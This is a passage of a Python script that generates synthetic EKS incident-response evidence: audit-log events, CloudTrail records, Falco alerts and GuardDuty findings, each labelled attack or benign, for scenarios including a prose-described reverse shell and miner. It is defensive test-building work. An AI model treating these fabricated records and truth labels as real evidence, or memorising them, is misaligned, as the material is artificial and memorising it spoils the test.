#!/usr/bin/env python3
"""Generate two more multi-source example scenarios under examples/scenarios/.

  web-pod-miner/     a web pod on the production cluster prod-shop (account 111122223333, us-west-2)
                     is exploited through the application: reverse shell, the service-account token
                     used against the API (forbidden), a miner downloaded and run. Seen by Falco,
                     GuardDuty Runtime Monitoring, an EDR (OCSF) and the EKS audit log.
  benign-cicd-day/   a noisy but benign day on prod-payments (us-east-1): GitHub Actions rollouts,
                     Terraform changing a node group and security-group rules, cluster-autoscaler
                     scaling out and in, new nodes joining, an SRE's maintenance work in kube-system.

Each scenario is an evidence folder plus a truth file beside it (never inside), and an
eksir.yaml organisation policy beside it. The file forms are the ones described in
examples/README.md for incident-2026-03-14.

Deterministic: fixed seeds, fixed timestamps, gzip mtime 0. Standard library only.

    python3 examples/make-scenarios.py            # writes examples/scenarios/
    python3 examples/make-scenarios.py --out DIR  # writes DIR/... instead
"""

import argparse
import base64
import calendar
import copy
import gzip
import hashlib
import io
import ipaddress
import json
import os
import random
import re
import sys
import uuid
from datetime import datetime, timedelta, timezone


# ---------------------------------------------------------------------------------------------
# Per-scenario state: every generator appends to the current scenario S
# ---------------------------------------------------------------------------------------------
class Scenario:
    def __init__(self, name, seed, account, region, cluster, day):
        self.name, self.account, self.region, self.cluster, self.day = name, account, region, cluster, day
        self.rng = random.Random(seed)
        self.cluster_arn = f"arn:aws:eks:{region}:{account}:cluster/{cluster}"
        self.CT, self.AUDIT, self.FALCO, self.FINDINGS, self.OCSF = [], [], [], [], []
        self.cp_ips = []
        self.detector = ""


S = None


def T(hms, day=None):
    if "." in hms:
        base, frac = hms.split(".")
        frac = (frac + "000000")[:6]
    else:
        base, frac = hms, "000000"
    return datetime.strptime(f"{day or S.day}T{base}.{frac}", "%Y-%m-%dT%H:%M:%S.%f").replace(tzinfo=timezone.utc)


def iso_us(dt):
    return dt.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def iso_s(dt):
    return dt.strftime("%Y-%m-%dT%H:%M:%SZ")


def iso_ms(dt):
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + f"{dt.microsecond // 1000:03d}Z"


def iso_ns(dt, extra_ns=0):
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + f"{dt.microsecond:06d}{extra_ns:03d}Z"


def epoch(dt):
    return calendar.timegm(dt.utctimetuple()) + dt.microsecond / 1e6


def epoch_ms(dt):
    return calendar.timegm(dt.utctimetuple()) * 1000 + dt.microsecond // 1000


def epoch_ns(dt, extra_ns=0):
    return (calendar.timegm(dt.utctimetuple()) * 1_000_000 + dt.microsecond) * 1000 + extra_ns


def iam_date(dt):
    h = dt.hour % 12 or 12
    return f"{dt.strftime('%b')} {dt.day}, {dt.year}, {h}:{dt.strftime('%M:%S')} {'AM' if dt.hour < 12 else 'PM'}"


def uid():
    return str(uuid.UUID(int=S.rng.getrandbits(128), version=4))


def stable_uuid(text):
    return str(uuid.UUID(hashlib.md5((S.name + "/" + text).encode()).hexdigest(), version=4))


def akid(prefix):
    return prefix + "".join(S.rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(16))


def ms(dt, lo=1, hi=40):
    return dt + timedelta(microseconds=S.rng.randint(lo * 1000, hi * 1000))


def sha(text):
    return hashlib.sha256((S.name + "/" + text).encode()).hexdigest()


def dumps_compact(obj):
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


def dumps_cli(obj):
    return json.dumps(obj, indent=4, ensure_ascii=False) + "\n"


class Node:
    def __init__(self, name, ip, instance, zone, asia, launched, nodegroup, itype="m6i.xlarge"):
        self.name, self.ip, self.instance, self.zone = name, ip, instance, zone
        self.asia, self.launched, self.nodegroup, self.itype = asia, launched, nodegroup, itype
        self.uid = stable_uuid("node/" + name)
        self.username = f"system:node:{name}"
        self.prefix = ip.rsplit(".", 1)[0] + "."


# ---------------------------------------------------------------------------------------------
# Kubernetes identities (EKS: aws-iam-authenticator extras) and audit events
# ---------------------------------------------------------------------------------------------
def k8s_user_iam(username, groups, arn, canonical, session, key, principal):
    return {"username": username,
            "uid": f"aws-iam-authenticator:{S.account}:{principal.split(':')[0]}",
            "groups": groups + ["system:authenticated"],
            "extra": {"accessKeyId": [key], "arn": [arn], "canonicalArn": [canonical], "principalId": [principal],
                      "sessionName": [session], "sigs.k8s.io/aws-iam-authenticator/principalId": [principal]}}


def u_node(n, role, role_id):
    return k8s_user_iam(n.username, ["system:bootstrappers", "system:nodes"],
                        f"arn:aws:sts::{S.account}:assumed-role/{role}/{n.instance}", f"arn:aws:iam::{S.account}:role/{role}",
                        n.instance, n.asia, f"{role_id}:{n.instance}")


def u_plain(username, groups=None):
    u = {"username": username}
    if groups is not None:
        u["groups"] = groups
    return u


def u_sa(ns, name, pod=None, pod_uid=None, node=None, jti=None):
    u = {"username": f"system:serviceaccount:{ns}:{name}", "uid": stable_uuid(f"sa/{ns}/{name}"),
         "groups": ["system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"]}
    if pod:
        u["extra"] = {"authentication.kubernetes.io/credential-id": [f"JTI={jti or uid()}"],
                      "authentication.kubernetes.io/node-name": [node.name],
                      "authentication.kubernetes.io/node-uid": [node.uid],
                      "authentication.kubernetes.io/pod-name": [pod],
                      "authentication.kubernetes.io/pod-uid": [pod_uid]}
    return u


def crb_reason(binding, role, kind, name):
    return f'RBAC: allowed by ClusterRoleBinding "{binding}" of ClusterRole "{role}" to {kind} "{name}"'


def rb_reason(binding, ns, role_kind, role, kind, name):
    return f'RBAC: allowed by RoleBinding "{binding}/{ns}" of {role_kind} "{role}" to {kind} "{name}"'


def status(code, **failure):
    if not failure:
        return {"metadata": {}, "code": code}
    return {"metadata": {}, "status": "Failure", **failure, "code": code}


def forbidden(user, verb, resource, ns=None, group=""):
    where = f' in the namespace "{ns}"' if ns else " at the cluster scope"
    return status(403, message=f'{resource} is forbidden: User "{user}" cannot {verb} resource "{resource}" in API group "{group}"{where}',
                  reason="Forbidden", details={"kind": resource})


def audit(t, user, verb, uri, objref=None, code=200, level="Metadata", ua="", src=None, stage="ResponseComplete",
          req=None, resp=None, reason="", decision="allow", annotations=None, latency=(2, 25), label="benign",
          step="background", audit_id=None, received=None, rstatus=None):
    if received is None:
        received, stage_ts = t, ms(t, *latency)
    else:
        stage_ts = t
    ev = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level, "auditID": audit_id or uid(), "stage": stage,
          "requestURI": uri, "verb": verb, "user": user, "sourceIPs": src or [S.rng.choice(S.cp_ips)], "userAgent": ua}
    if objref:
        ev["objectRef"] = objref
    ev["responseStatus"] = rstatus or status(code)
    if req is not None and level in ("Request", "RequestResponse"):
        ev["requestObject"] = req
    if resp is not None and level == "RequestResponse":
        ev["responseObject"] = resp
    ev["requestReceivedTimestamp"] = iso_us(received)
    ev["stageTimestamp"] = iso_us(stage_ts)
    ann = {"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": reason}
    if annotations:
        ann.update(annotations)
    ev["annotations"] = ann
    S.AUDIT.append((ev, label, step))
    return ev


def oref(resource, ns=None, name=None, group=None, version="v1", sub=None, uid_=None):
    o = {"resource": resource}
    if ns:
        o["namespace"] = ns
    if name:
        o["name"] = name
    if uid_:
        o["uid"] = uid_
    if group:
        o["apiGroup"] = group
    o["apiVersion"] = version
    if sub:
        o["subresource"] = sub
    return o


# ---------------------------------------------------------------------------------------------
# CloudTrail records
# ---------------------------------------------------------------------------------------------
def host_for(source):
    svc = source.split(".")[0]
    if svc == "iam":
        return "iam.amazonaws.com"
    if svc == "ecr":
        return f"api.ecr.{S.region}.amazonaws.com"
    return f"{svc}.{S.region}.amazonaws.com"


def ct(t, identity, source, name, params=None, resp=None, ip=None, ua=None, read_only=True, version="1.09",
       label="benign", step="background", resources=None, extra=None, tls=True, event_type="AwsApiCall"):
    r = {"eventVersion": version, "userIdentity": identity, "eventTime": iso_s(t), "eventSource": source,
         "eventName": name, "awsRegion": S.region, "sourceIPAddress": ip, "userAgent": ua,
         "requestParameters": params, "responseElements": resp}
    if extra:
        r.update(extra)
    r["requestID"] = uid()
    r["eventID"] = uid()
    r["readOnly"] = read_only
    if resources:
        r["resources"] = resources
    r["eventType"] = event_type
    r["managementEvent"] = True
    r["recipientAccountId"] = S.account
    r["eventCategory"] = "Management"
    if tls:
        r["tlsDetails"] = {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256",
                           "clientProvidedHostHeader": host_for(source)}
    S.CT.append((r, label, step))
    return r


def id_role(role, role_id, session, key, created, extra_ctx=None, mfa="false", path=""):
    ctx = {"sessionIssuer": {"type": "Role", "principalId": role_id, "arn": f"arn:aws:iam::{S.account}:role/{path}{role}",
                             "accountId": S.account, "userName": role},
           "attributes": {"creationDate": iso_s(created), "mfaAuthenticated": mfa}}
    if extra_ctx:
        ctx.update(extra_ctx)
    return {"type": "AssumedRole", "principalId": f"{role_id}:{session}",
            "arn": f"arn:aws:sts::{S.account}:assumed-role/{role}/{session}", "accountId": S.account,
            "accessKeyId": key, "sessionContext": ctx}


def id_service_linked(role, role_id, session, svc, created):
    i = id_role(role, role_id, session, akid("ASIA"), created, path=f"aws-service-role/{svc}/")
    i["invokedBy"] = svc
    return i


def fake_session_token():
    raw = bytes(S.rng.getrandbits(8) for _ in range(300))
    return "IQoJb3JpZ2luX2VjE" + base64.b64encode(raw).decode()


def web_identity_assume(t, role, role_id, session, oidc_provider, sub, aud, ip, ua, step, label="benign"):
    key = akid("ASIA")
    arn = f"arn:aws:iam::{S.account}:role/{role}"
    ct(t, {"type": "WebIdentityUser", "principalId": f"{oidc_provider}:{aud}:{sub}", "userName": sub,
           "identityProvider": oidc_provider},
       "sts.amazonaws.com", "AssumeRoleWithWebIdentity",
       params={"roleArn": arn, "roleSessionName": session, "durationSeconds": 3600},
       resp={"credentials": {"accessKeyId": key, "sessionToken": fake_session_token(),
                             "expiration": iam_date(t + timedelta(hours=1))},
             "subjectFromWebIdentityToken": sub,
             "assumedRoleUser": {"assumedRoleId": f"{role_id}:{session}",
                                 "arn": f"arn:aws:sts::{S.account}:assumed-role/{role}/{session}"},
             "provider": oidc_provider, "audience": aud},
       ip=ip, ua=ua, version="1.08", step=step, label=label,
       resources=[{"accountId": S.account, "type": "AWS::IAM::Role", "ARN": arn}],
       extra={"additionalEventData": {"identityProviderConnectionVerificationMethod": "IAMTrustStore"}})
    return key


# ---------------------------------------------------------------------------------------------
# Falco alerts
# ---------------------------------------------------------------------------------------------
def falco(t, extra_ns, rule, priority, hostname, tags, message, fields, text_fields, label="attack", step=None,
          source="syscall"):
    ts = t.strftime("%H:%M:%S.") + f"{t.microsecond:06d}{extra_ns:03d}"
    output = f"{ts}: {priority} {message} | " + " ".join(f"{k}={v}" for k, v in text_fields)
    of = {"evt.time": epoch_ns(t, extra_ns)}
    of.update(fields)
    alert = {"hostname": hostname, "output": output, "output_fields": dict(sorted(of.items())), "priority": priority,
             "rule": rule, "source": source, "tags": sorted(tags), "time": iso_ns(t, extra_ns)}
    S.FALCO.append((alert, label, step))
    return alert


def container_text(pod, ns, cid, repo, tag, name):
    return [("container_id", cid), ("container_name", name), ("container_image_repository", repo),
            ("container_image_tag", tag), ("k8s_pod_name", pod), ("k8s_ns_name", ns)]


def container_fields(pod, ns, cid, repo, tag, name):
    return {"container.id": cid, "container.image.repository": repo, "container.image.tag": tag,
            "container.name": name, "k8s.ns.name": ns, "k8s.pod.name": pod}


def proc_text(evt, user, uid_, process, exepath, parent, cmd, tty):
    return [("evt_type", evt), ("user", user), ("user_uid", str(uid_)), ("user_loginuid", "-1"), ("process", process),
            ("proc_exepath", exepath), ("parent", parent), ("command", cmd), ("terminal", str(tty))]


def proc_fields(evt, user, uid_, process, exepath, parent, cmd, tty, pid=None):
    f = {"evt.type": evt, "proc.cmdline": cmd, "proc.exepath": exepath, "proc.name": process, "proc.pname": parent,
         "proc.tty": tty, "user.loginuid": -1, "user.name": user, "user.uid": uid_}
    if pid is not None:
        f["proc.pid"] = pid
    return f


# ---------------------------------------------------------------------------------------------
# GuardDuty findings (API camelCase; the CLI form is derived in PascalCase)
# ---------------------------------------------------------------------------------------------
def finding(fid, ftype, severity, title, desc, resource, service, created, updated, label="attack", step=None):
    f = {"schemaVersion": "2.0", "accountId": S.account, "region": S.region, "partition": "aws", "id": fid,
         "arn": f"arn:aws:guardduty:{S.region}:{S.account}:detector/{S.detector}/finding/{fid}", "type": ftype,
         "resource": resource, "service": service, "severity": severity, "createdAt": iso_ms(created),
         "updatedAt": iso_ms(updated), "title": title, "description": desc}
    S.FINDINGS.append((f, label, step))
    return f


def service_block(first, last, count, action, feature=None, extra=None):
    s = {"serviceName": "guardduty", "detectorId": S.detector}
    if feature:
        s["featureName"] = feature
    s["action"] = action
    if extra:
        s.update(extra)
    s.update({"resourceRole": "TARGET", "additionalInfo": {"value": "{}", "type": "default"},
              "eventFirstSeen": iso_ms(first), "eventLastSeen": iso_ms(last), "archived": False, "count": count})
    return s


PASCAL_EXCEPTIONS = {"sourceIPs": "SourceIps"}
EPOCH_PATHS = {("EksClusterDetails", "CreatedAt"), ("Process", "StartTime"), ("Lineage", "StartTime"),
               ("ModifyingProcess", "StartTime"), ("Context", "ModifiedAt")}


def to_cli(obj, parent=None):
    if isinstance(obj, list):
        return [to_cli(v, parent) for v in obj]
    if not isinstance(obj, dict):
        return obj
    out = {}
    for k, v in obj.items():
        pk = PASCAL_EXCEPTIONS.get(k, k[:1].upper() + k[1:])
        if (parent, pk) in EPOCH_PATHS and isinstance(v, float):
            v = datetime.fromtimestamp(v, tz=timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%f+00:00")
        out[pk] = to_cli(v, pk)
    return out


# ---------------------------------------------------------------------------------------------
# Kubernetes objects
# ---------------------------------------------------------------------------------------------
def api_access_volume(name):
    return {"name": name, "projected": {"sources": [
        {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
        {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}},
        {"downwardAPI": {"items": [{"path": "namespace", "fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.namespace"}}]}},
    ], "defaultMode": 420}}


DEFAULT_TOLERATIONS = [
    {"key": "node.kubernetes.io/not-ready", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300},
    {"key": "node.kubernetes.io/unreachable", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300},
]


def owner(kind, name):
    return {"apiVersion": "apps/v1", "kind": kind, "name": name, "uid": stable_uuid(f"{kind}/{name}"),
            "controller": True, "blockOwnerDeletion": True}


def qos(containers):
    res = [c.get("resources", {}) for c in containers]
    if all(not r for r in res):
        return "BestEffort"
    if all(r.get("limits") and r.get("limits") == r.get("requests") for r in res):
        return "Guaranteed"
    return "Burstable"


def container_id(ns, pod, cname):
    return sha(f"cid/{ns}/{pod}/{cname}")


def make_pod(name, ns, created, containers, node, ip=None, labels=None, owner_ref=None, sa="default",
             host_network=False, volumes=None, tolerations=None, priority_class=None, generate_name=None,
             annotations=None, pod_security=None, automount=None):
    api_vol = "kube-api-access-" + sha("apivol/" + ns + name)[:5]
    md = {"name": name}
    if generate_name:
        md["generateName"] = generate_name
    md.update({"namespace": ns, "uid": stable_uuid(f"pod/{ns}/{name}"),
               "resourceVersion": str(int(sha("rv/" + name)[:7], 16) % 90_000_000 + 10_000_000),
               "creationTimestamp": iso_s(created)})
    if labels:
        md["labels"] = labels
    if annotations:
        md["annotations"] = annotations
    if owner_ref:
        md["ownerReferences"] = [owner_ref]
    ctrs = []
    for c in containers:
        cc = {"name": c["name"], "image": c["image"]}
        for k in ("command", "args", "ports", "env"):
            if k in c:
                cc[k] = c[k]
        cc["resources"] = c.get("resources", {})
        mounts = list(c.get("volumeMounts", []))
        if automount is not False:
            mounts.append({"name": api_vol, "readOnly": True, "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"})
        cc["volumeMounts"] = mounts
        cc["terminationMessagePath"] = "/dev/termination-log"
        cc["terminationMessagePolicy"] = "File"
        cc["imagePullPolicy"] = "IfNotPresent"
        if "securityContext" in c:
            cc["securityContext"] = c["securityContext"]
        ctrs.append(cc)
    vols = list(volumes or [])
    if automount is not False:
        vols.append(api_access_volume(api_vol))
    spec = {"volumes": vols, "containers": ctrs, "restartPolicy": "Always", "terminationGracePeriodSeconds": 30,
            "dnsPolicy": "ClusterFirst", "serviceAccountName": sa, "serviceAccount": sa}
    if automount is False:
        spec["automountServiceAccountToken"] = False
    spec["nodeName"] = node.name
    if host_network:
        spec["hostNetwork"] = True
    spec["securityContext"] = pod_security or {}
    spec["schedulerName"] = "default-scheduler"
    spec["tolerations"] = tolerations if tolerations is not None else DEFAULT_TOLERATIONS
    if priority_class:
        spec["priorityClassName"] = priority_class
        spec["priority"] = 2000001000 if priority_class == "system-node-critical" else 2000000000
    else:
        spec["priority"] = 0
    spec["enableServiceLinks"] = True
    spec["preemptionPolicy"] = "PreemptLowerPriority"
    started = created + timedelta(seconds=2)
    ready = started + timedelta(seconds=5)
    cond = lambda t, at: {"type": t, "status": "True", "lastProbeTime": None, "lastTransitionTime": iso_s(at)}
    ip = node.ip if host_network else ip
    st = {"phase": "Running",
          "conditions": [cond("PodReadyToStartContainers", ready), cond("Initialized", started), cond("Ready", ready),
                         cond("ContainersReady", ready), cond("PodScheduled", created)],
          "hostIP": node.ip, "hostIPs": [{"ip": node.ip}], "podIP": ip, "podIPs": [{"ip": ip}], "startTime": iso_s(started),
          "containerStatuses": [{
              "name": c["name"], "state": {"running": {"startedAt": iso_s(ready - timedelta(seconds=1))}}, "lastState": {},
              "ready": True, "restartCount": 0, "image": c["image"],
              "imageID": c["image"].split(":")[0] + "@sha256:" + hashlib.sha256(c["image"].encode()).hexdigest(),
              "containerID": "containerd://" + container_id(ns, name, c["name"]), "started": True,
              "volumeMounts": [{"name": m["name"], "mountPath": m["mountPath"], **({"readOnly": True} if m.get("readOnly") else {})}
                               for m in ctrs[i]["volumeMounts"]],
          } for i, c in enumerate(containers)],
          "qosClass": qos(containers)}
    return {"kind": "Pod", "apiVersion": "v1", "metadata": md, "spec": spec, "status": st}


def k8s_list(items):
    return {"apiVersion": "v1", "items": items, "kind": "List", "metadata": {"resourceVersion": ""}}


def system_uuid(n):
    h = hashlib.md5(n.instance.encode()).hexdigest()
    return f"ec2{h[3:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:32]}"


def node_object(n, zone_id, snap_t, kubelet_version, ami, lt="lt-0d4c8e2a6f1b3c5d7", extra_labels=None, taints=None):
    created = datetime.strptime(n.launched, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=timezone.utc) + timedelta(seconds=44)
    cond = lambda typ, st, reason, msg: {"type": typ, "status": st, "lastHeartbeatTime": iso_s(snap_t - timedelta(seconds=7)),
                                         "lastTransitionTime": iso_s(created + timedelta(seconds=20)), "reason": reason, "message": msg}
    labels = {"beta.kubernetes.io/arch": "amd64", "beta.kubernetes.io/instance-type": n.itype, "beta.kubernetes.io/os": "linux",
              "eks.amazonaws.com/capacityType": "ON_DEMAND", "eks.amazonaws.com/nodegroup": n.nodegroup,
              "eks.amazonaws.com/nodegroup-image": ami, "eks.amazonaws.com/sourceLaunchTemplateId": lt,
              "eks.amazonaws.com/sourceLaunchTemplateVersion": "4",
              "failure-domain.beta.kubernetes.io/region": S.region, "failure-domain.beta.kubernetes.io/zone": n.zone,
              "kubernetes.io/arch": "amd64", "kubernetes.io/hostname": n.name, "kubernetes.io/os": "linux",
              "node.kubernetes.io/instance-type": n.itype, "topology.k8s.aws/zone-id": zone_id,
              "topology.kubernetes.io/region": S.region, "topology.kubernetes.io/zone": n.zone}
    labels.update(extra_labels or {})
    spec = {"providerID": f"aws:///{n.zone}/{n.instance}"}
    if taints:
        spec["taints"] = taints
    return {"apiVersion": "v1", "kind": "Node",
            "metadata": {"annotations": {"alpha.kubernetes.io/provided-node-ip": n.ip, "node.alpha.kubernetes.io/ttl": "0",
                                         "volumes.kubernetes.io/controller-managed-attach-detach": "true"},
                         "creationTimestamp": iso_s(created), "labels": dict(sorted(labels.items())), "name": n.name,
                         "resourceVersion": str(int(sha("nrv" + n.name)[:6], 16) % 9_000_000 + 40_000_000), "uid": n.uid},
            "spec": spec,
            "status": {"addresses": [{"address": n.ip, "type": "InternalIP"}, {"address": n.name, "type": "InternalDNS"},
                                     {"address": n.name, "type": "Hostname"}],
                       "allocatable": {"cpu": "3920m", "ephemeral-storage": "95551679124", "hugepages-1Gi": "0", "hugepages-2Mi": "0",
                                       "memory": "15136280Ki", "pods": "58"},
                       "capacity": {"cpu": "4", "ephemeral-storage": "104845292Ki", "hugepages-1Gi": "0", "hugepages-2Mi": "0",
                                    "memory": "16009240Ki", "pods": "58"},
                       "conditions": [cond("MemoryPressure", "False", "KubeletHasSufficientMemory", "kubelet has sufficient memory available"),
                                      cond("DiskPressure", "False", "KubeletHasNoDiskPressure", "kubelet has no disk pressure"),
                                      cond("PIDPressure", "False", "KubeletHasSufficientPID", "kubelet has sufficient PID available"),
                                      cond("Ready", "True", "KubeletReady", "kubelet is posting ready status")],
                       "daemonEndpoints": {"kubeletEndpoint": {"Port": 10250}},
                       "nodeInfo": {"architecture": "amd64", "bootID": stable_uuid("boot" + n.name),
                                    "containerRuntimeVersion": "containerd://1.7.25",
                                    "kernelVersion": "6.1.128-136.201.amzn2023.x86_64", "kubeProxyVersion": kubelet_version,
                                    "kubeletVersion": kubelet_version,
                                    "machineID": hashlib.md5(("machine" + n.name).encode()).hexdigest(), "operatingSystem": "linux",
                                    "osImage": "Amazon Linux 2023.6.20250303", "systemUUID": system_uuid(n)}}}


def meta(name, ns=None, created="2025-09-01T10:00:00Z", labels=None, annotations=None, extra=None):
    md = {}
    if annotations:
        md["annotations"] = annotations
    md["creationTimestamp"] = created
    if labels:
        md["labels"] = labels
    md["name"] = name
    if ns:
        md["namespace"] = ns
    md["resourceVersion"] = str(int(sha(f"rv/{ns}/{name}")[:6], 16) % 9_000_000 + 1000)
    md["uid"] = stable_uuid(f"obj/{ns}/{name}")
    if extra:
        md.update(extra)
    return md


def crb(name, role, subjects, created="2025-09-01T10:08:51Z", labels=None, annotations=None):
    return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
            "metadata": meta(name, None, created, labels, annotations),
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role}, "subjects": subjects}


def rb(name, ns, role_kind, role, subjects, created):
    return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": meta(name, ns, created),
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": role_kind, "name": role}, "subjects": subjects}


G = lambda n: {"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": n}
U = lambda n: {"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": n}
SA = lambda n, ns: {"kind": "ServiceAccount", "name": n, "namespace": ns}
BOOT = {"kubernetes.io/bootstrapping": "rbac-defaults"}
AUTO = {"rbac.authorization.kubernetes.io/autoupdate": "true"}


def system_crbs(created):
    return [
        crb("aws-node", "aws-node", [SA("aws-node", "kube-system")], created,
            labels={"app.kubernetes.io/instance": "aws-vpc-cni", "app.kubernetes.io/name": "aws-node", "k8s-app": "aws-node"}),
        crb("cluster-admin", "cluster-admin", [G("system:masters")], created, labels=BOOT, annotations=AUTO),
        crb("eks:addon-cluster-admin", "cluster-admin", [U("eks:addon-manager")], created),
        crb("eks:certificate-controller", "eks:certificate-controller", [U("eks:certificate-controller")], created,
            labels={"eks.amazonaws.com/component": "pod"}),
        crb("eks:k8s-metrics", "eks:k8s-metrics", [U("eks:k8s-metrics")], created),
        crb("eks:node-manager", "eks:node-manager", [U("eks:node-manager")], created),
        crb("system:basic-user", "system:basic-user", [G("system:authenticated")], created, labels=BOOT, annotations=AUTO),
        crb("system:coredns", "system:coredns", [SA("coredns", "kube-system")], created,
            labels={"eks.amazonaws.com/component": "coredns", "k8s-app": "kube-dns"}),
        crb("system:discovery", "system:discovery", [G("system:authenticated")], created, labels=BOOT, annotations=AUTO),
        crb("system:kube-controller-manager", "system:kube-controller-manager", [U("system:kube-controller-manager")], created,
            labels=BOOT, annotations=AUTO),
        crb("system:kube-scheduler", "system:kube-scheduler", [U("system:kube-scheduler")], created, labels=BOOT, annotations=AUTO),
        crb("system:node-proxier", "system:node-proxier", [SA("kube-proxy", "kube-system")], created,
            labels={"eks.amazonaws.com/component": "kube-proxy"}),
        crb("system:public-info-viewer", "system:public-info-viewer", [G("system:authenticated"), G("system:unauthenticated")],
            created, labels=BOOT, annotations=AUTO),
    ]


def serviceaccount(name, ns, created, annotations=None, automount=None):
    o = {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": meta(name, ns, created, annotations=annotations)}
    o["metadata"]["uid"] = stable_uuid(f"sa/{ns}/{name}")
    if automount is not None:
        o["automountServiceAccountToken"] = automount
    return o


def fake_pem(seed):
    body = base64.b64encode(hashlib.sha512(seed.encode()).digest() * 9).decode()
    return "-----BEGIN CERTIFICATE-----\n" + "\n".join(body[i:i + 64] for i in range(0, len(body), 64)) + "\n-----END CERTIFICATE-----\n"


def aws_auth(node_role_arn, created, extra_roles=""):
    return {"apiVersion": "v1", "kind": "ConfigMap",
            "data": {"mapRoles": f"- groups:\n  - system:bootstrappers\n  - system:nodes\n  rolearn: {node_role_arn}\n"
                                 f"  username: system:node:{{{{EC2PrivateDNSName}}}}\n" + extra_roles},
            "metadata": meta("aws-auth", "kube-system", created)}


def describe_cluster(version, endpoint, subnets, cluster_sg, vpc, created, platform, tags, public_cidrs, logging_on, oidc_id):
    return {"cluster": {
        "name": S.cluster, "arn": S.cluster_arn, "createdAt": created, "version": version, "endpoint": endpoint,
        "roleArn": f"arn:aws:iam::{S.account}:role/{S.cluster}-cluster-role",
        "resourcesVpcConfig": {"subnetIds": subnets, "securityGroupIds": [], "clusterSecurityGroupId": cluster_sg, "vpcId": vpc,
                               "endpointPublicAccess": True, "endpointPrivateAccess": True, "publicAccessCidrs": public_cidrs},
        "kubernetesNetworkConfig": {"serviceIpv4Cidr": "172.20.0.0/16", "ipFamily": "ipv4", "elasticLoadBalancing": {"enabled": False}},
        "logging": {"clusterLogging": [{"types": logging_on, "enabled": True},
                                       {"types": [t for t in ["api", "audit", "authenticator", "controllerManager", "scheduler"]
                                                  if t not in logging_on], "enabled": False}]},
        "identity": {"oidc": {"issuer": f"https://oidc.eks.{S.region}.amazonaws.com/id/{oidc_id}"}},
        "status": "ACTIVE", "certificateAuthority": {"data": base64.b64encode(fake_pem(S.cluster).encode()).decode()},
        "platformVersion": platform, "tags": tags,
        "encryptionConfig": [{"resources": ["secrets"], "provider": {"keyArn": f"arn:aws:kms:{S.region}:{S.account}:key/{stable_uuid('kms')}"}}],
        "health": {"issues": []}, "accessConfig": {"authenticationMode": "API_AND_CONFIG_MAP"},
        "upgradePolicy": {"supportType": "STANDARD"}}}


def deployment(name, ns, created, replicas, labels, template_labels, containers, sa, rs_hash, generation, image_note=None,
               annotations=None, template_annotations=None):
    tmpl_md = {"creationTimestamp": None, "labels": template_labels}
    if template_annotations:
        tmpl_md["annotations"] = template_annotations
    ann = {"deployment.kubernetes.io/revision": str(generation)}
    ann.update(annotations or {})
    return {"apiVersion": "apps/v1", "kind": "Deployment",
            "metadata": meta(name, ns, created, labels, ann, extra={"generation": generation,
                                                                    "uid": stable_uuid(f"Deployment/{name}")}),
            "spec": {"replicas": replicas, "revisionHistoryLimit": 10, "progressDeadlineSeconds": 600,
                     "selector": {"matchLabels": {k: v for k, v in template_labels.items() if k in ("app", "app.kubernetes.io/name", "k8s-app")}},
                     "strategy": {"type": "RollingUpdate", "rollingUpdate": {"maxSurge": "25%", "maxUnavailable": "25%"}},
                     "template": {"metadata": tmpl_md, "spec": {"containers": containers, "serviceAccountName": sa,
                                                               "restartPolicy": "Always", "dnsPolicy": "ClusterFirst",
                                                               "schedulerName": "default-scheduler", "securityContext": {},
                                                               "terminationGracePeriodSeconds": 30}}},
            "status": {"observedGeneration": generation, "replicas": replicas, "updatedReplicas": replicas,
                       "readyReplicas": replicas, "availableReplicas": replicas,
                       "conditions": [{"type": "Available", "status": "True", "reason": "MinimumReplicasAvailable",
                                       "message": "Deployment has minimum availability."},
                                      {"type": "Progressing", "status": "True", "reason": "NewReplicaSetAvailable",
                                       "message": f'ReplicaSet "{name}-{rs_hash}" has successfully progressed.'}]}}


def replicaset(deploy, ns, rs_hash, created, replicas, template_labels, containers, sa, revision):
    labels = dict(template_labels, **{"pod-template-hash": rs_hash})
    return {"apiVersion": "apps/v1", "kind": "ReplicaSet",
            "metadata": meta(f"{deploy}-{rs_hash}", ns, created, labels,
                             {"deployment.kubernetes.io/desired-replicas": str(replicas),
                              "deployment.kubernetes.io/max-replicas": str(replicas + 1),
                              "deployment.kubernetes.io/revision": str(revision)},
                             extra={"ownerReferences": [owner("Deployment", deploy)], "generation": 1,
                                    "uid": stable_uuid(f"ReplicaSet/{deploy}-{rs_hash}")}),
            "spec": {"replicas": replicas,
                     "selector": {"matchLabels": {k: v for k, v in labels.items() if k in ("app", "app.kubernetes.io/name", "k8s-app", "pod-template-hash")}},
                     "template": {"metadata": {"creationTimestamp": None, "labels": labels},
                                  "spec": {"containers": containers, "serviceAccountName": sa, "restartPolicy": "Always",
                                           "dnsPolicy": "ClusterFirst", "schedulerName": "default-scheduler",
                                           "securityContext": {}, "terminationGracePeriodSeconds": 30}}},
            "status": {"replicas": replicas, "fullyLabeledReplicas": replicas, "readyReplicas": replicas,
                       "availableReplicas": replicas, "observedGeneration": 1}}


# =============================================================================================
